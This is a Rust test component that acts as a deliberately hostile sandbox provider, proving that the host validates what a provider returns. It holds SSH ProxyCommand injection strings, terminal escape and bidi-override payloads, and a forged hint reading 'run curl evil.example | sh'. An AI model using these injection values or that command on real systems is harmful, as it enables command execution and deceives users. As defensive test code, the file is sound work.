//! A hostile test provider that answers with malformed data, to prove the host validates what
//! a provider returns before it acts on it.
//!
//! It manages make-believe sandboxes without any service and without state that outlives one
//! cbx invocation: a sandbox's id carries its labels (hex-encoded), so `get` in a later
//! invocation answers what `create` was given and a lease made by `warmup` can be resolved by
//! `ssh`. Every sandbox is `ready`.
//!
//! Option `mode` chooses the malformation:
//! - `ok`: none;
//! - `ssh-host`: `mint-ssh-access` returns a host that would inject an ssh option
//!   (`x\n  ProxyCommand sh -c 'touch MARKER'`);
//! - `ssh-user`: it returns a user that would be parsed as an option (`-oProxyCommand=…`);
//! - `ssh-identity`: it returns an identity-file path with a line break and ssh's `%` tokens;
//! - `bad-utf8`: `list` returns a sandbox whose name is not UTF-8;
//! - `huge-list`: `list` returns `count` sandboxes, none of them cbx's, with ids of `size`
//!   bytes (default 4096), 200-byte names and a 1 KiB label: within the boundary's caps until
//!   `count` passes them (or the memory limit);
//! - `huge-error`: `list` fails with an error message of `size` bytes;
//! - `huge-name`: `list` returns one sandbox whose name is `size` bytes;
//! - `inject`: every string it controls carries [`INJECT`] — terminal escapes, a forged
//!   `error:`/`hint:` pair on lines of their own, a bidi override, a C1 CSI and DEL: sandbox
//!   ids, names, states and reasons; a lease of its own making in `list` (slug and work root
//!   labels); doctor checks; the profile summary; log lines; the first `get` of each instance
//!   fails as `unavailable` (so cbx retries and says so) and `mint-ssh-access` fails, both
//!   with it;
//! - `log-flood`: every call logs 1000 warning lines.
//!
//! Option `marker` is the file the injected commands would create; the tests check that it
//! never appears.
//!
//! Options steer what else it returns, as a hostile provider would choose it:
//! - `dest-host`, `dest-port`: where `mint-ssh-access` says the sandbox is (default
//!   `127.0.0.1:22`) — an attacker's server, say;
//! - `key`: the identity file `mint-ssh-access` names (default none) — the user's own key, a
//!   system file, a path ending in `\`;
//! - `user-key`: declared only, for manifests that name it as the user's key option;
//! - `work-root`: the work root `configure` reports (default `malformed`), e.g. `-rf`.

wit_bindgen::generate!({ world: "provider-world", path: "../../../wit" });

use std::cell::RefCell;

use cbx::provider::log::{self, Level};
use cbx::provider::types::{
    Check, CheckStatus, CreateRequest, Labels, OptionKind, OptionSpec, Profile, ProviderError,
    ProviderInfo, Sandbox, SandboxState, Settings, SshAccess,
};
use exports::cbx::provider::provider::Guest;

/// What `inject` puts in every string: clear the screen, retitle the window, conceal the
/// rest, then forge an `error:` and a `hint:` line, reverse the text, and a C1 CSI and DEL.
pub const INJECT: &str = "\x1b[2J\x1b]0;owned\x07\x1b[8m\r\nerror: forged by the provider\nhint: run curl evil.example | sh\u{202e}\u{9b}31m\x7f end";

thread_local! {
    /// `get` calls in this instance.
    static GETS: RefCell<u32> = const { RefCell::new(0) };
    static OPTIONS: RefCell<Vec<(String, String)>> = const { RefCell::new(Vec::new()) };
    /// Sandboxes deleted during this invocation.
    static DELETED: RefCell<Vec<String>> = const { RefCell::new(Vec::new()) };
    /// Labels replaced during this invocation, by sandbox id.
    static RELABELED: RefCell<Vec<(String, Labels)>> = const { RefCell::new(Vec::new()) };
}

fn option(name: &str) -> Option<String> {
    OPTIONS.with(|o| {
        o.borrow()
            .iter()
            .rev()
            .find(|(k, _)| k == name)
            .map(|(_, v)| v.clone())
            .filter(|v| !v.is_empty())
    })
}

fn mode() -> String {
    option("mode").unwrap_or_else(|| "ok".to_string())
}

fn size() -> usize {
    option("size").and_then(|c| c.parse().ok()).unwrap_or(4096)
}

fn injecting() -> bool {
    mode() == "inject"
}

/// Logs 1000 warning lines in `log-flood` mode, and one hostile line in `inject` mode.
fn chatter() {
    match mode().as_str() {
        "log-flood" => {
            for i in 0..1000 {
                log::log(Level::Warn, &format!("flood line {i}"));
            }
        }
        "inject" => log::log(Level::Warn, &format!("log says {INJECT}")),
        _ => {}
    }
}

fn marker() -> String {
    option("marker").unwrap_or_else(|| "/tmp/cbx-malformed-pwned".to_string())
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

fn unhex(text: &str) -> Option<Vec<u8>> {
    if text.len() % 2 != 0 {
        return None;
    }
    (0..text.len())
        .step_by(2)
        .map(|i| u8::from_str_radix(text.get(i..i + 2)?, 16).ok())
        .collect()
}

/// A sandbox id that carries `labels`.
fn id_for(labels: &Labels) -> String {
    let text: String = labels.iter().map(|(k, v)| format!("{k}={v}\n")).collect();
    format!("m{}", hex(text.as_bytes()))
}

/// The labels a sandbox id carries (in its hex digits; `inject` appends [`INJECT`]).
fn labels_of(id: &str) -> Result<Labels, ProviderError> {
    let not_found = || ProviderError::NotFound(format!("no sandbox {id}"));
    let digits = id.strip_prefix('m').ok_or_else(not_found)?;
    let end = digits
        .find(|c: char| !c.is_ascii_hexdigit())
        .unwrap_or(digits.len());
    let bytes = unhex(&digits[..end]).ok_or_else(not_found)?;
    let text = String::from_utf8(bytes).map_err(|_| not_found())?;
    Ok(text
        .lines()
        .filter_map(|l| l.split_once('='))
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect())
}

fn sandbox(id: &str, name: &str, labels: Labels) -> Sandbox {
    let inject = injecting();
    Sandbox {
        id: id.to_string(),
        name: if inject {
            format!("name {INJECT}")
        } else {
            name.to_string()
        },
        state: SandboxState::Ready,
        provider_state: if inject {
            format!("started {INJECT}")
        } else {
            "started".to_string()
        },
        reason: inject.then(|| format!("reason {INJECT}")),
        labels,
        created_at: None,
    }
}

/// A lease of the provider's own making, as `list` reports it in `inject` mode: cbx's labels,
/// with a slug and a work root carrying [`INJECT`].
fn made_up_lease() -> Sandbox {
    let label = |k: &str, v: &str| (k.to_string(), v.to_string());
    let labels = vec![
        label("cbx", "true"),
        label("cbx_provider", "malformed"),
        label("cbx_lease", "cbx_0123456789ab"),
        label("cbx_slug", &format!("slug {INJECT}")),
        label("cbx_created_at", "4102444800"),
        label("cbx_ttl_secs", "3600"),
        label("cbx_work_root", &format!("root {INJECT}")),
    ];
    sandbox(&format!("m00{INJECT}"), "made-up", labels)
}

fn lookup(id: &str) -> Result<Sandbox, ProviderError> {
    if DELETED.with(|d| d.borrow().iter().any(|x| x == id)) {
        return Err(ProviderError::NotFound(format!("sandbox {id} was deleted")));
    }
    let relabeled = RELABELED.with(|r| {
        r.borrow()
            .iter()
            .rev()
            .find(|(i, _)| i == id)
            .map(|(_, l)| l.clone())
    });
    let labels = match relabeled {
        Some(l) => l,
        None => labels_of(id)?,
    };
    Ok(sandbox(id, "malformed-sandbox", labels))
}

/// A string whose bytes are not UTF-8. The canonical ABI passes it as pointer and length; the
/// host must refuse to lift it.
fn not_utf8() -> String {
    let bytes: Vec<u8> = vec![b'b', b'a', b'd', 0xff, 0xfe, 0xc3, 0x28];
    // SAFETY: deliberately violated, to hand the host malformed data. The string is only
    // passed through the component ABI, never inspected as `str` on this side.
    unsafe { String::from_utf8_unchecked(bytes) }
}

/// The component's exports.
struct Malformed;

impl Guest for Malformed {
    fn describe() -> ProviderInfo {
        let spec =
            |name: &str, kind: OptionKind, default: Option<&str>, description: &str| OptionSpec {
                name: name.to_string(),
                description: description.to_string(),
                kind,
                default: default.map(str::to_string),
            };
        ProviderInfo {
            name: "malformed".to_string(),
            version: env!("CARGO_PKG_VERSION").to_string(),
            description: "A test provider that answers with malformed data".to_string(),
            options: vec![
                spec(
                    "mode",
                    OptionKind::Text,
                    Some("ok"),
                    "ok, ssh-host, ssh-user, ssh-identity, bad-utf8, huge-list, huge-error, huge-name, inject or log-flood",
                ),
                spec(
                    "marker",
                    OptionKind::Text,
                    None,
                    "The file injected commands would create",
                ),
                spec(
                    "count",
                    OptionKind::Integer,
                    Some("1000"),
                    "How many sandboxes huge-list returns",
                ),
                spec(
                    "size",
                    OptionKind::Integer,
                    Some("4096"),
                    "Bytes of huge-list ids, huge-error messages and huge-name names",
                ),
                spec(
                    "dest-host",
                    OptionKind::Text,
                    Some("127.0.0.1"),
                    "The SSH host mint-ssh-access returns",
                ),
                spec(
                    "dest-port",
                    OptionKind::Integer,
                    Some("22"),
                    "The SSH port mint-ssh-access returns",
                ),
                spec(
                    "key",
                    OptionKind::Text,
                    None,
                    "The identity file mint-ssh-access names",
                ),
                spec(
                    "user-key",
                    OptionKind::Text,
                    None,
                    "The user's key (for manifests naming it as their key option)",
                ),
                spec(
                    "work-root",
                    OptionKind::Text,
                    Some("malformed"),
                    "The work root configure reports",
                ),
            ],
            features: Vec::new(),
        }
    }

    fn configure(settings: Settings) -> Result<Profile, ProviderError> {
        OPTIONS.with(|o| *o.borrow_mut() = settings.options);
        chatter();
        let mode = if injecting() {
            format!("inject {INJECT}")
        } else {
            mode()
        };
        Ok(Profile {
            work_root: option("work-root").unwrap_or_else(|| "malformed".to_string()),
            summary: vec![("mode".to_string(), mode)],
        })
    }

    fn doctor() -> Result<Vec<Check>, ProviderError> {
        chatter();
        let (name, detail) = if injecting() {
            (format!("check {INJECT}"), format!("detail {INJECT}"))
        } else {
            ("malformed".to_string(), format!("mode {}", mode()))
        };
        Ok(vec![Check {
            name,
            status: CheckStatus::Ok,
            detail,
        }])
    }

    fn create(request: CreateRequest) -> Result<Sandbox, ProviderError> {
        chatter();
        let mut id = id_for(&request.labels);
        if injecting() {
            id.push_str(INJECT);
        }
        Ok(sandbox(&id, &request.name, request.labels))
    }

    fn get(id: String) -> Result<Sandbox, ProviderError> {
        chatter();
        let first = GETS.with(|g| {
            *g.borrow_mut() += 1;
            *g.borrow() == 1
        });
        if injecting() && first {
            return Err(ProviderError::Unavailable(format!("busy {INJECT}")));
        }
        lookup(&id)
    }

    fn list(_labels: Labels) -> Result<Vec<Sandbox>, ProviderError> {
        chatter();
        match mode().as_str() {
            "bad-utf8" => Ok(vec![sandbox("m", &not_utf8(), Vec::new())]),
            "huge-list" => {
                let count: usize = option("count").and_then(|c| c.parse().ok()).unwrap_or(1000);
                let id = "x".repeat(size());
                let name = "n".repeat(200);
                let value = "v".repeat(1024);
                Ok((0..count)
                    .map(|i| {
                        sandbox(
                            &format!("huge-{i}-{id}"),
                            &name,
                            vec![("owner".to_string(), value.clone())],
                        )
                    })
                    .collect())
            }
            "huge-error" => Err(ProviderError::Other("e".repeat(size()))),
            "huge-name" => Ok(vec![sandbox("m", &"n".repeat(size()), Vec::new())]),
            "inject" => Ok(vec![made_up_lease()]),
            _ => Ok(Vec::new()),
        }
    }

    fn start(id: String) -> Result<Sandbox, ProviderError> {
        chatter();
        lookup(&id)
    }

    fn stop(id: String) -> Result<Sandbox, ProviderError> {
        chatter();
        lookup(&id)
    }

    fn delete(id: String) -> Result<(), ProviderError> {
        chatter();
        lookup(&id)?;
        DELETED.with(|d| d.borrow_mut().push(id));
        Ok(())
    }

    fn set_labels(id: String, labels: Labels) -> Result<Sandbox, ProviderError> {
        chatter();
        lookup(&id)?;
        RELABELED.with(|r| r.borrow_mut().push((id.clone(), labels)));
        lookup(&id)
    }

    fn touch(id: String) -> Result<(), ProviderError> {
        chatter();
        lookup(&id).map(|_| ())
    }

    fn mint_ssh_access(id: String) -> Result<SshAccess, ProviderError> {
        lookup(&id)?;
        if injecting() {
            return Err(ProviderError::Other(format!("no access {INJECT}")));
        }
        let marker = marker();
        let mut access = SshAccess {
            user: "cbx".to_string(),
            user_is_secret: false,
            host: option("dest-host").unwrap_or_else(|| "127.0.0.1".to_string()),
            port: option("dest-port")
                .and_then(|p| p.parse().ok())
                .unwrap_or(22),
            identity_file: option("key"),
            expires_at: None,
        };
        match mode().as_str() {
            "ssh-host" => {
                access.host = format!("x\n  ProxyCommand sh -c 'touch {marker}'");
            }
            "ssh-user" => {
                access.user = format!("-oProxyCommand=sh -c 'touch {marker}'");
            }
            "ssh-identity" => {
                access.identity_file =
                    Some(format!("%d/.ssh/id\n  ProxyCommand sh -c 'touch {marker}'"));
            }
            _ => {}
        }
        Ok(access)
    }
}

export!(Malformed);
